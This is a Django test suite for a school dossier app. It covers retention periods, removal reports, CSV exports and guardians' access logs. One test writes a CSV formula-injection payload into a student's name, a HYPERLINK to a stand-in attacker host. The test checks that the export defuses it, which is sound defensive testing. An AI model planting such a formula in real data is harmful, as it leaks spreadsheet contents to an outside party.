"""The admin's privacy page, keeping a dossier longer, removal reports, the CSV downloads and the guardian's
view of who looked."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from django_scopes import scopes_disabled

from koers.access.models import AuditEntry
from koers.common.csv_export import BOM
from koers.schools.models import School, Student
from koers.transfer.domain.retention import run_retention
from koers.transfer.models import RemovalReport
from koers.transfer.queries import months_before
from tests import factories as f
from tests.refusals import assert_not_found, nothing_written


def reload(obj):
    with scopes_disabled():
        return type(obj).objects.get(pk=obj.pk)


def left(school, *, days_ago: int, **kwargs) -> Student:
    with scopes_disabled():
        return f.StudentFactory(
            school=school, left_on=timezone.localdate() - dt.timedelta(days=days_ago), **kwargs
        )


def read_csv(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :]), delimiter=";"))


# --- retention period ---


def test_admin_sets_retention_period(world, login):
    response = login("admin").post(reverse("transfer:privacy"), {"months": "36"})

    assert response.status_code == 302
    assert reload(world.school).retention_months == 36


@pytest.mark.parametrize("months", ["3", "121", "veel"])
def test_admin_gets_message_next_to_field_for_bad_period(world, login, months):
    response = login("admin").post(reverse("transfer:privacy"), {"months": months})

    html = response.content.decode()
    assert response.status_code == 200
    assert 'id="id_months-error"' in html
    assert f'value="{months}"' in html
    assert reload(world.school).retention_months == 24


def test_privacy_page_shows_current_period(world, login):
    response = login("admin").get(reverse("transfer:privacy"))

    assert "24 maanden na het vertrek" in response.content.decode()


# --- due soon and keeping longer ---


def test_privacy_page_lists_student_due_soon_but_not_one_due_later(world, login):
    soon = left(world.school, days_ago=2 * 365 - 20, user__first_name="Binnenkort")
    later = left(world.school, days_ago=365, user__first_name="Veelater")

    html = login("admin").get(reverse("transfer:privacy")).content.decode()

    assert soon.user.first_name in html
    assert later.user.first_name not in html
    assert reverse("transfer:keep_longer", args=[soon.pk]) in html


def test_privacy_page_leaves_out_student_kept_longer(world, login):
    kept = left(
        world.school,
        days_ago=2 * 365 + 40,
        user__first_name="Bewaard",
        keep_until=timezone.localdate() + dt.timedelta(days=400),
    )

    html = login("admin").get(reverse("transfer:privacy")).content.decode()

    assert kept.user.first_name not in html


@pytest.mark.parametrize("size", [2, 12])
def test_privacy_page_query_count_does_not_grow(world, login, django_assert_num_queries, size):
    for n in range(size):
        left(world.school, days_ago=2 * 365 + n)
    with scopes_disabled():
        for _ in range(size):
            RemovalReport.objects.create(school=world.school, students_removed=1)
    client = login("admin")
    client.get(reverse("transfer:privacy"))  # warm the session and the caches

    # session, user+roles, due students, reports (+ the messages/savepoint-free render)
    with django_assert_num_queries(4):
        response = client.get(reverse("transfer:privacy"))
    assert response.status_code == 200


def test_admin_keeps_dossier_longer(world, login):
    student = left(world.school, days_ago=800)
    until = timezone.localdate() + dt.timedelta(days=180)

    response = login("admin").post(
        reverse("transfer:keep_longer", args=[student.pk]), {"until": until.isoformat()}
    )

    assert response.status_code == 302
    assert reload(student).keep_until == until


def test_keep_longer_refuses_date_in_the_past_next_to_field(world, login):
    student = left(world.school, days_ago=800)
    yesterday = timezone.localdate() - dt.timedelta(days=1)

    response = login("admin").post(
        reverse("transfer:keep_longer", args=[student.pk]), {"until": yesterday.isoformat()}
    )

    html = response.content.decode()
    assert response.status_code == 200
    assert "Kies een datum na vandaag." in html
    assert yesterday.isoformat() in html
    assert reload(student).keep_until is None


def test_keep_longer_is_404_for_student_still_at_school(world, login):
    with nothing_written(Student):
        response = login("admin").get(reverse("transfer:keep_longer", args=[world.student.pk]))

    assert_not_found(response)


def test_keep_longer_is_404_for_another_schools_student(world, login):
    other = left(world.other_school, days_ago=800)

    with nothing_written(Student):
        response = login("admin").get(reverse("transfer:keep_longer", args=[other.pk]))

    assert_not_found(response, other.user.get_full_name())


# --- removal reports ---


def test_removal_report_page_shows_counts_and_lines_without_names(world, login):
    with scopes_disabled():
        report = RemovalReport.objects.create(
            school=world.school,
            students_removed=1,
            details={
                "counts": {"dossier.experience": 7},
                "files": 3,
                "lines": [{"student_number": "L777", "left_on": "2024-07-01", "rows": 20, "files": 3}],
                "failed": [],
            },
        )

    html = login("admin").get(reverse("transfer:removal_report", args=[report.pk])).content.decode()

    assert "L777" in html
    assert "ervaringen: 7" in html.lower()


def test_removal_report_of_another_school_is_404(world, login):
    with scopes_disabled():
        report = RemovalReport.objects.create(school=world.other_school)

    response = login("admin").get(reverse("transfer:removal_report", args=[report.pk]))

    assert_not_found(response, world.other_school.name)


def test_retention_run_is_shown_on_privacy_page(world, login, django_capture_on_commit_callbacks):

    left(world.school, days_ago=(timezone.localdate() - months_before(timezone.localdate(), 30)).days)
    with django_capture_on_commit_callbacks(execute=True):
        run = run_retention(school=world.school)

    html = login("admin").get(reverse("transfer:privacy")).content.decode()

    assert reverse("transfer:removal_report", args=[run.report.pk]) in html
    assert "1 leerling verwijderd" in html


# --- CSV downloads ---


def test_students_csv_neutralises_formula_in_a_students_name(world, login):
    with scopes_disabled():
        world.student.user.first_name = '=HYPERLINK("https://evil.example/?"&A1;"klik")'
        world.student.user.save()

    response = login("counsellor").get(reverse("transfer:students_csv"))

    rows = read_csv(response)
    first_names = [row[1] for row in rows[1:]]
    assert "'" + '=HYPERLINK("https://evil.example/?"&A1;"klik")' in first_names
    assert not any(name.startswith("=") for name in first_names)


def test_students_csv_lists_current_students_with_counts(world, login):
    with scopes_disabled():
        f.ExperienceFactory(student=world.student)
        f.ExperienceFactory(student=world.student)
    left(world.school, days_ago=10, user__first_name="Vertrokken")

    rows = read_csv(login("counsellor").get(reverse("transfer:students_csv")))

    by_name = {row[1]: row for row in rows[1:]}
    assert rows[0][:4] == ["Leerlingnummer", "Voornaam", "Achternaam", "Groep"]
    assert by_name["Samira"][3] == "3K1"
    assert by_name["Samira"][4] == "2"
    assert "Vertrokken" not in by_name


def test_students_csv_holds_only_own_schools_students(world, login):
    rows = read_csv(login("outsider").get(reverse("transfer:students_csv")))

    assert [row[1] for row in rows[1:]] == [world.other_student.user.first_name]


@pytest.mark.parametrize("size", [2, 10])
def test_students_csv_query_count_does_not_grow(world, login, django_assert_num_queries, size):
    with scopes_disabled():
        for _ in range(size):
            f.MembershipFactory(student=f.StudentFactory(school=world.school), group=world.group)
    client = login("counsellor")
    client.get(reverse("home:counsellor"))

    with django_assert_num_queries(3):
        client.get(reverse("transfer:students_csv"))


def test_access_log_csv_writes_one_audit_row_and_lists_who_looked(world, login):
    with scopes_disabled():
        f.AuditEntryFactory(student=world.student, actor=world.users["mentor"], subject="dossier-overzicht")
    client = login("counsellor")

    response = client.get(reverse("transfer:access_log_csv", args=[world.student.pk]))

    rows = read_csv(response)
    assert rows[1][1] == str(world.users["mentor"])
    with scopes_disabled():
        exports = AuditEntry.objects.filter(student=world.student, action="export")
        assert exports.count() == 1
        assert exports.get().actor == world.users["counsellor"]


# --- who looked, for guardians ---


def test_guardian_sees_who_looked_at_childs_dossier(world, login):
    with scopes_disabled():
        f.AuditEntryFactory(student=world.student, actor=world.users["mentor"], subject="LOB-lijn")

    html = login("guardian").get(reverse("transfer:guardian_access_log", args=[world.student.pk])).content

    assert str(world.users["mentor"]).encode() in html
    assert b"LOB-lijn" not in html  # who and when; what was opened only the child sees


def test_guardian_who_looked_never_names_what_the_child_does_not_share(world, login):
    with scopes_disabled():
        f.ExperienceFactory(student=world.student, title="Gesprek met de vertrouwenspersoon")
        f.AuditEntryFactory(
            student=world.student,
            actor=world.users["mentor"],
            subject="ervaring “Gesprek met de vertrouwenspersoon”",
        )
        f.AuditEntryFactory(
            student=world.student, actor=world.users["counsellor"], subject="actiepunt “Hulp zoeken”"
        )

    guardian = (
        login("guardian")
        .get(reverse("transfer:guardian_access_log", args=[world.student.pk]))
        .content.decode()
    )

    assert str(world.users["mentor"]) in guardian and str(world.users["counsellor"]) in guardian
    assert "vertrouwenspersoon" not in guardian
    assert "Hulp zoeken" not in guardian
    student = login("student").get(reverse("dossier:access_log")).content.decode()
    assert "vertrouwenspersoon" in student and "Hulp zoeken" in student


def test_guardian_without_authority_cannot_see_who_looked(world, login):
    with scopes_disabled():
        world.student.guardianships.update(has_authority=False)

    with nothing_written():
        response = login("guardian").get(reverse("transfer:guardian_access_log", args=[world.student.pk]))

    assert_not_found(response, world.student.user.get_full_name())


def test_guardian_home_links_to_who_looked(world, login):
    html = login("guardian").get(reverse("home:guardian")).content.decode()

    assert reverse("transfer:guardian_access_log", args=[world.student.pk]) in html


def test_admin_nav_links_to_privacy_page(world, login):
    html = login("admin").get(reverse("home:admin")).content.decode()

    assert reverse("transfer:privacy") in html


def test_school_default_retention_is_two_years(db):
    assert School(name="x", slug="x").retention_months == 24
